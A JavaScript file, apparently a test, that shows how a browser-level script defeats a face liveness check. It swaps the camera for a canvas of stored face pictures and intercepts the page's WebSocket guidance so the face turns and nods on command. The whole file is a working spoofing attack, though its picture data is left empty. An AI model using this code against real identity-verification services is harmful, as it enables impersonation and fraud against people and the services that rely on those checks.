// An attack that succeeds: a page's camera is replaced by pictures of a person that turn as they are asked to. Whoever controls the
// browser can do so, and no page can tell. It is run by a test before the page's own scripts; nothing in the product knows of it.

(() => {
  const PICTURES = /* pictures */ {};
  const PACE_DEG_S = 60, REACTION_MS = 250, FPS = 20;
  const goals = { turn_left: [27, 0], turn_right: [-27, 0], nod: [0, 18] };
  let code = "", heard_ms = 0;

  const Socket = WebSocket;
  window.WebSocket = class extends Socket {
    constructor(...address) {
      super(...address);
      this.addEventListener("message", ({ data }) => {
        const said = JSON.parse(data);
        if (said.type === "guidance" && said.code !== code) [code, heard_ms] = [said.code, performance.now()];
      });
    }
  };

  const bitmap = (base64) => createImageBitmap(new Blob([Uint8Array.from(atob(base64), (c) => c.charCodeAt(0))]));

  navigator.mediaDevices.enumerateDevices = async () => [{ kind: "videoinput", deviceId: "it", label: "Camera" }];
  navigator.mediaDevices.getUserMedia = async () => {
    const loaded = await Promise.all(Object.entries(PICTURES).map(async ([angles, base64]) => [angles, await bitmap(base64)]));
    const shown = new Map(loaded);
    const canvas = document.createElement("canvas");
    [canvas.width, canvas.height] = [loaded[0][1].width, loaded[0][1].height];
    const context = canvas.getContext("2d");
    let [yaw, pitch] = [0, 0];
    const towards = (angle, goal) => angle + Math.max(-PACE_DEG_S / FPS, Math.min(PACE_DEG_S / FPS, goal - angle));
    const paint = () => {
      const [to_yaw, to_pitch] = performance.now() - heard_ms < REACTION_MS ? [yaw, pitch] : goals[code] ?? [0, 0];
      [yaw, pitch] = [towards(yaw, to_yaw), towards(pitch, to_pitch)];
      const angles = Math.abs(yaw) > 1 ? `${3 * Math.round(yaw / 3)},0` : `0,${3 * Math.round(pitch / 3)}`;
      context.drawImage(shown.get(angles), Math.random(), Math.random());
    };
    paint();
    const timer = setInterval(paint, 1000 / FPS);
    const stream = canvas.captureStream(FPS);
    const [track] = stream.getVideoTracks();
    const stop = track.stop.bind(track);
    track.stop = () => { clearInterval(timer); stop(); };
    return stream;
  };
})();
